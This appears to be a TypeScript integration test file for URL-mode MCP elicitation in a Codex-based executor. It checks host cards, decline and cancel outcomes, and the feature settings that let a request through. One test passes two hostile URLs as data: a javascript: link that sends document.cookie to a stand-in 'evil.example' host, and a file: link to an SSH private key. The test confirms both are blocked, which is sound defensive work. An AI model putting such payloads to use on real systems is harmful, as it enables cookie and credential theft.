/**
 * URL-mode elicitation end to end (MCP 2025-11-25): the real app-server (Codex 0.171.0), the forms
 * plugin's `connect_account` tool (`elicitation/create { mode: "url" }`), the scripted model, and a
 * scripted host. Also pins what was measured on this Codex: which settings let the request through, and
 * that the plugin's `notifications/elicitation/complete` is not forwarded to the app-server client.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { callTool, respond, say } from '@wework/scripted-model';
import type { HostCard } from '@wework/host-protocol';
import type { HostReply } from '@wework/elicitation-mapper';
import { threadParamsFor } from '../src/executorConfig.js';
import type { ExecutorHost } from '../src/cards/ExecutorHost.js';
import { managedConfig, startSandbox, toolOutputs, type SandboxOptions } from './support/executorSandbox.js';

const cleanups: Array<() => Promise<void>> = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
});

function scriptedHost(answer: (card: HostCard) => HostReply): ExecutorHost & { readonly cards: HostCard[] } {
  const cards: HostCard[] = [];
  return {
    cards,
    showCard: (card) => {
      cards.push(card);
      return Promise.resolve(answer(card));
    },
  };
}

const connectTurn = (args: Record<string, unknown> = {}) => [respond(callTool('forms', 'connect_account', args)), respond(say('done'))];
const open = { answers: { openUrl: { answers: ['Open'] } } };

/** The executor's config with extra `[features]`. */
const withFeatures = (features: Readonly<Record<string, unknown>>): SandboxOptions['config'] => (url, forms) => {
  const config = managedConfig()(url, forms);
  return { ...config, features: { ...(config['features'] as object), ...features } };
};

describe('URL-mode elicitation through the executor (default features, granular policy with mcp_elicitations)', () => {
  it('reaches the host as a url card with the checked link apart; Open accepts, and the plugin carries on', async () => {
    const host = scriptedHost(() => open);
    const methods: string[] = [];
    const box = await startSandbox(
      {
        script: connectTurn(),
        host,
        config: managedConfig(),
        threadParams: threadParamsFor(),
        onClient: (client) => client.onMessage((direction, message) => direction === 'incoming' && 'method' in message && methods.push(message.method)),
      },
      cleanups,
    );
    const turn = await box.runtime.runTurn(box.threadId, 'Connect my account');
    expect(turn).toMatchObject({ right: { status: 'completed' } });

    expect(host.cards).toHaveLength(1);
    const [card] = host.cards;
    expect(card).toMatchObject({
      origin: 'mcpElicitation',
      kind: 'url',
      serverName: 'forms',
      message: 'Sign in to connect your account',
      submitOnSelect: true,
      url: { url: 'https://auth.example.com/connect?client=wework-forms-plugin', scheme: 'https', host: 'auth.example.com', elicitationId: 'connect-1' },
    });
    expect(card?.questions.map((q) => [q.id, q.answerType, q.options?.map((o) => o.label), q.defaultAnswers])).toEqual([['openUrl', 'openUrl', ['Open', 'Decline', 'Cancel'], []]]);
    expect(toolOutputs(box.items)).toEqual(['elicitation: accept {}\noutcome: connected the account (connect-1 completed)']);
    // The plugin sent notifications/elicitation/complete after the answer; Codex 0.171.0 forwards nothing of it.
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(methods.filter((method) => /elicitation/i.test(method) && method !== 'mcpServer/elicitation/request')).toEqual([]);
    // The log names the request, never the link's path or query.
    expect(JSON.stringify(box.log)).not.toContain('client=wework-forms-plugin');
  });

  it('Decline and Cancel reach the plugin as such, and nothing is connected', async () => {
    for (const label of ['Decline', 'Cancel'] as const) {
      const host = scriptedHost(() => ({ answers: { openUrl: { answers: [label] } } }));
      const box = await startSandbox({ script: connectTurn(), host, config: managedConfig(), threadParams: threadParamsFor() }, cleanups);
      await box.runtime.runTurn(box.threadId, 'Connect');
      expect(host.cards).toHaveLength(1);
      const action = label === 'Decline' ? 'decline' : 'cancel';
      expect(toolOutputs(box.items)).toEqual([`elicitation: ${action}\noutcome: no account was connected (the user ${action === 'cancel' ? 'cancelled' : 'declined'})`]);
      await box.close();
    }
  });

  it('a javascript: or file: link never reaches the host: declined at once, the reason logged without the address', async () => {
    for (const [url, scheme] of [
      ['javascript:fetch("https://evil.example/?t="+document.cookie)', 'javascript'],
      ['file:///home/user/.ssh/id_ed25519', 'file'],
    ] as const) {
      const host = scriptedHost(() => open);
      const box = await startSandbox({ script: connectTurn({ url }), host, config: managedConfig(), threadParams: threadParamsFor() }, cleanups);
      await box.runtime.runTurn(box.threadId, 'Connect');
      expect(host.cards).toEqual([]);
      expect(toolOutputs(box.items)).toEqual(['elicitation: decline\noutcome: no account was connected (the user declined)']);
      const declined = box.log.find((entry) => entry.event === 'request answered without a card');
      expect(declined?.fields).toMatchObject({ action: 'decline', reason: `Unsupported elicitation: url mode: scheme "${scheme}" is not offered (only https, or http on loopback)` });
      const logged = JSON.stringify(box.log);
      expect(logged).not.toContain('document.cookie');
      expect(logged).not.toContain('id_ed25519');
      await box.close();
    }
  });
});

describe('what Codex 0.171.0 needs to forward a URL-mode request (measured)', () => {
  it('[features] auth_elicitation = false: Codex does not declare elicitation.url to the plugin, which sends nothing', async () => {
    const host = scriptedHost(() => open);
    const box = await startSandbox({ script: connectTurn(), host, config: withFeatures({ auth_elicitation: false }), threadParams: threadParamsFor() }, cleanups);
    await box.runtime.runTurn(box.threadId, 'Connect');
    expect(host.cards).toEqual([]);
    expect(toolOutputs(box.items)).toEqual(['elicitation: unsupported\noutcome: no account was connected (the client cannot open links)']);
  });

  it('approvalPolicy "never", or granular without mcp_elicitations: Codex declines it itself, no request reaches the executor', async () => {
    const granularOff = { granular: { sandbox_approval: false, rules: false, skill_approval: false, request_permissions: false, mcp_elicitations: false } };
    for (const approvalPolicy of ['never', granularOff] as const) {
      const host = scriptedHost(() => open);
      const box = await startSandbox({ script: connectTurn(), host, config: managedConfig(), threadParams: { ...threadParamsFor(), approvalPolicy } }, cleanups);
      await box.runtime.runTurn(box.threadId, 'Connect');
      expect(host.cards).toEqual([]);
      expect(box.log.map((entry) => entry.event)).not.toContain('codex mcp elicitation request');
      expect(toolOutputs(box.items)).toEqual(['elicitation: decline\noutcome: no account was connected (the user declined)']);
      await box.close();
    }
  });
});
